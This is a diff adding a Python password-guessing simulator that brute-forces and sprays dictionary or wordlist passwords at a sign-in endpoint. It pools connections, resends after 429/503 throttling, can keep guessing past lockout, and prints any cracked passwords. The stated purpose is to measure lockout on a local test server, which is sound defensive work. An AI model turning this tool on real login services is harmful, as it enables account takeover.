@@ -0,0 +1,296 @@
+"""
+Online attack simulator against /api/auth/signin (educational, local server only).
+
+Sends password guesses through a pool of keep-alive HTTP/1.1 connections (asyncio, stdlib only)
+at a configurable concurrency, then reports requests/sec, latency percentiles, status codes and,
+per account, how many guesses the server evaluated before answering 423 (locked).
+
+    python app.py
+    python Attacks/online_attack.py --username alice --method dictionary3 --concurrency 8
+    python Attacks/online_attack.py --username alice --username bob --wordlist Attacks/markov_corpus.txt
+"""
+import argparse
+import asyncio
+import itertools
+import json
+import os
+import sys
+import time
+from urllib.parse import urlsplit
+
+sys.path.append(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+from backend.password_keyspace import KEYSPACES
+
+
+class HTTPConnection:
+    """One HTTP/1.1 connection; reopened transparently when the server closes it"""
+
+    def __init__(self, host, port):
+        self.host = host
+        self.port = port
+        self.reader = None
+        self.writer = None
+        self.opened = 0
+
+    async def _open(self):
+        self.reader, self.writer = await asyncio.open_connection(self.host, self.port)
+        self.opened += 1
+
+    def close(self):
+        if self.writer is not None:
+            self.writer.close()
+        self.reader = self.writer = None
+
+    async def request(self, method, path, body=b'', headers=None):
+        """Returns (status, headers, body)"""
+        for attempt in range(2):
+            if self.writer is None:
+                await self._open()
+            lines = [f"{method} {path} HTTP/1.1", f"Host: {self.host}:{self.port}", "Connection: keep-alive",
+                     f"Content-Length: {len(body)}"]
+            lines += [f"{k}: {v}" for k, v in (headers or {}).items()]
+            try:
+                self.writer.write(("\r\n".join(lines) + "\r\n\r\n").encode() + body)
+                await self.writer.drain()
+                return await self._read_response()
+            except (ConnectionError, asyncio.IncompleteReadError):
+                # Connexion fermée par le serveur entre deux requêtes : une seule nouvelle tentative
+                self.close()
+                if attempt:
+                    raise
+
+    async def _read_response(self):
+        status_line = await self.reader.readuntil(b"\r\n")
+        version, status = status_line.decode('latin-1').split(' ', 2)[:2]
+        headers = {}
+        while True:
+            line = await self.reader.readuntil(b"\r\n")
+            if line == b"\r\n":
+                break
+            key, _, value = line.decode('latin-1').partition(':')
+            headers[key.strip().lower()] = value.strip()
+
+        if 'content-length' in headers:
+            body = await self.reader.readexactly(int(headers['content-length']))
+        else:
+            body = await self.reader.read()
+            self.close()
+        # HTTP/1.0 (serveur de dev Werkzeug) ou "Connection: close" : pas de réutilisation possible
+        if version == 'HTTP/1.0' or headers.get('connection', '').lower() == 'close':
+            self.close()
+        return int(status), headers, body
+
+
+class ConnectionPool:
+    """Fixed set of keep-alive connections shared by the attack coroutines"""
+
+    def __init__(self, host, port, size):
+        self.connections = [HTTPConnection(host, port) for _ in range(size)]
+        self._idle = asyncio.Queue()
+        for connection in self.connections:
+            self._idle.put_nowait(connection)
+
+    async def request(self, method, path, body=b'', headers=None):
+        connection = await self._idle.get()
+        try:
+            return await connection.request(method, path, body, headers)
+        finally:
+            self._idle.put_nowait(connection)
+
+    @property
+    def opened(self):
+        return sum(c.opened for c in self.connections)
+
+    def close(self):
+        for connection in self.connections:
+            connection.close()
+
+
+def _percentile(sorted_values, q):
+    if not sorted_values:
+        return None
+    return sorted_values[min(len(sorted_values) - 1, int(q * len(sorted_values)))]
+
+
+class OnlineAttack:
+    """
+    Password guesses against one or more accounts. Each account stops receiving guesses once
+    its password is found or it answers 423 (unless keep_going_when_locked).
+    """
+
+    def __init__(self, base_url, usernames, guesses, concurrency=8, max_requests=None, duration=None,
+                 keep_going_when_locked=False):
+        url = urlsplit(base_url)
+        self.host = url.hostname or '127.0.0.1'
+        self.port = url.port or 80
+        self.path = (url.path.rstrip('/') or '') + '/api/auth/signin'
+        self.usernames = usernames
+        self.guesses = guesses
+        self.concurrency = concurrency
+        self.max_requests = max_requests
+        self.duration = duration
+        self.keep_going_when_locked = keep_going_when_locked
+
+        self.latencies = []
+        self.statuses = {}
+        self.accounts = {u: {"guesses": 0, "allowed_before_lock": None, "locked": False, "password": None,
+                             "throttled": 0} for u in usernames}
+        self.errors = 0
+        self.attempts = 0  # réponses évaluées par le serveur (200 / 401 / 423 / autres)
+        self.throttled = 0  # réponses 429 / 503, hors tentatives
+        self.retries = 0  # paires renvoyées après un 429 / 503
+
+    def _work(self):
+        """(username, password) pairs: every guess is tried on every account (password spraying order)"""
+        for password in self.guesses:
+            for username in self.usernames:
+                yield username, password
+
+    def _active(self, username):
+        account = self.accounts[username]
+        return account["password"] is None and (self.keep_going_when_locked or not account["locked"])
+
+    def _stopped(self, deadline):
+        if deadline and time.perf_counter() > deadline:
+            return True
+        return bool(self.max_requests and len(self.latencies) + self.errors >= self.max_requests)
+
+    async def _attacker(self, pool, work, deadline):
+        while True:
+            if self._stopped(deadline):
+                return
+            try:
+                username, password = next(work)
+            except StopIteration:
+                return
+
+            # 429 / 503 : la même paire est renvoyée après Retry-After, sinon la tentative serait perdue
+            resend = False
+            while self._active(username) and not self._stopped(deadline):
+                if resend:
+                    self.retries += 1
+                body = json.dumps({"username": username, "password": password}).encode()
+                start = time.perf_counter()
+                try:
+                    status, headers, _ = await pool.request('POST', self.path, body,
+                                                            {"Content-Type": "application/json"})
+                except (OSError, asyncio.IncompleteReadError, ValueError):
+                    self.errors += 1
+                    break
+                self.latencies.append(time.perf_counter() - start)
+                self.statuses[status] = self.statuses.get(status, 0) + 1
+
+                account = self.accounts[username]
+                if status in (429, 503):
+                    account["throttled"] += 1
+                    self.throttled += 1
+                    resend = True
+                    await asyncio.sleep(float(headers.get('retry-after', 1)))
+                    continue
+                self.attempts += 1
+                if status == 200:
+                    account["guesses"] += 1
+                    account["password"] = password
+                elif status == 401:
+                    account["guesses"] += 1
+                elif status == 423:
+                    if not account["locked"]:
+                        account["locked"] = True
+                        account["allowed_before_lock"] = account["guesses"]
+                break
+
+    async def run(self):
+        pool = ConnectionPool(self.host, self.port, self.concurrency)
+        work = self._work()  # partagé par toutes les coroutines (un seul thread : pas de verrou nécessaire)
+        start = time.perf_counter()
+        deadline = start + self.duration if self.duration else None
+        try:
+            await asyncio.gather(*(self._attacker(pool, work, deadline) for _ in range(self.concurrency)))
+        finally:
+            pool.close()
+        elapsed = time.perf_counter() - start
+        return self.report(elapsed, pool.opened)
+
+    def report(self, elapsed, connections_opened):
+        latencies = sorted(self.latencies)
+        requests = len(latencies)
+        return {
+            "requests": requests,
+            "errors": self.errors,
+            "attempts": self.attempts,
+            "throttled": self.throttled,
+            "retries": self.retries,
+            "elapsed": elapsed,
+            "requests_per_second": requests / elapsed if elapsed > 0 else 0,
+            "concurrency": self.concurrency,
+            "connections_opened": connections_opened,
+            "keep_alive_reuse": 1 - connections_opened / requests if requests else 0,
+            "latency_ms": {
+                "p50": (_percentile(latencies, 0.50) or 0) * 1000,
+                "p95": (_percentile(latencies, 0.95) or 0) * 1000,
+                "p99": (_percentile(latencies, 0.99) or 0) * 1000,
+                "max": (latencies[-1] if latencies else 0) * 1000,
+            },
+            "statuses": {str(k): v for k, v in sorted(self.statuses.items())},
+            "accounts": self.accounts,
+        }
+
+
+def load_guesses(method=None, wordlist=None, limit=None):
+    if wordlist:
+        with open(wordlist, 'r', encoding='utf-8', errors='ignore') as f:
+            guesses = (line.strip() for line in f if line.strip())
+            guesses = list(itertools.islice(guesses, limit)) if limit else list(guesses)
+        return iter(guesses)
+    keyspace = KEYSPACES[method or 'dictionary3']
+    return iter(keyspace) if not limit else iter(keyspace[0:limit])
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Online attack simulator against /api/auth/signin")
+    parser.add_argument('--url', default='http://127.0.0.1:5000')
+    parser.add_argument('--username', action='append', required=True, help='Target account (repeatable)')
+    parser.add_argument('--method', choices=sorted(KEYSPACES), default='dictionary3',
+                        help='Keyspace to guess from (ignored with --wordlist)')
+    parser.add_argument('--wordlist', help='One guess per line')
+    parser.add_argument('--limit', type=int, help='Maximum number of guesses per account')
+    parser.add_argument('--concurrency', type=int, default=8, help='Pooled keep-alive connections')
+    parser.add_argument('--max-requests', type=int)
+    parser.add_argument('--duration', type=float, help='Stop after this many seconds')
+    parser.add_argument('--keep-going-when-locked', action='store_true',
+                        help='Keep guessing after 423 (measures lockout enforcement under load)')
+    parser.add_argument('--json', action='store_true', help='Also print the full report as JSON')
+    args = parser.parse_args()
+
+    attack = OnlineAttack(args.url, args.username, load_guesses(args.method, args.wordlist, args.limit),
+                          concurrency=args.concurrency, max_requests=args.max_requests, duration=args.duration,
+                          keep_going_when_locked=args.keep_going_when_locked)
+    print(f"[*] Online attack on {', '.join(args.username)} via {args.url} (concurrency {args.concurrency})")
+    report = asyncio.run(attack.run())
+    if report["errors"] and not report["requests"]:
+        print(f"[!] No response from {args.url}: is the server running?")
+        sys.exit(1)
+
+    print(f"[#] Requests: {report['requests']:,} in {report['elapsed']:.2f}s "
+          f"({report['requests_per_second']:.1f} req/s), errors: {report['errors']}")
+    latency = report["latency_ms"]
+    print(f"[#] Latency: p50 {latency['p50']:.1f} ms, p95 {latency['p95']:.1f} ms, "
+          f"p99 {latency['p99']:.1f} ms, max {latency['max']:.1f} ms")
+    print(f"[#] Connections opened: {report['connections_opened']} "
+          f"(keep-alive reuse {report['keep_alive_reuse']:.0%})")
+    print(f"[#] Status codes: {report['statuses']}")
+    print(f"[#] Attempts: {report['attempts']:,}, throttled (429/503): {report['throttled']:,}, "
+          f"retried: {report['retries']:,}")
+    for username, account in report["accounts"].items():
+        if account["password"]:
+            print(f"[+] {username}: password found '{account['password']}' after {account['guesses']} guesses")
+        elif account["locked"]:
+            print(f"[-] {username}: locked (423) after {account['allowed_before_lock']} allowed guesses")
+        else:
+            print(f"[-] {username}: not found after {account['guesses']} guesses")
+    if args.json:
+        print(json.dumps(report, indent=2))
+
+
+if __name__ == "__main__":
+    main()